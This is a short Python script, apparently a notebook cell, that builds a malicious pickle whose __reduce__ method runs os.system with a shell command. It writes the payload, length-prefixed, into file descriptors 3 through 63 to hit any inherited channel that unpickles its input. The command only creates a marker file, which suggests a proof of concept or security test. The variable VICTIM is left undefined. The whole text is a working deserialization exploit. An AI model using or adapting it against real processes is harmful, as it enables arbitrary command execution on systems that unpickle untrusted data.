# writes a pickle
# %%
import os, pickle, struct
class P:
    def __reduce__(self): return os.system, ('touch ' + VICTIM + '.pickled',)
data = pickle.dumps(P())
for fd in range(3, 64):
    try: os.write(fd, struct.pack('<II', len(data), 0) + data)
    except OSError: pass
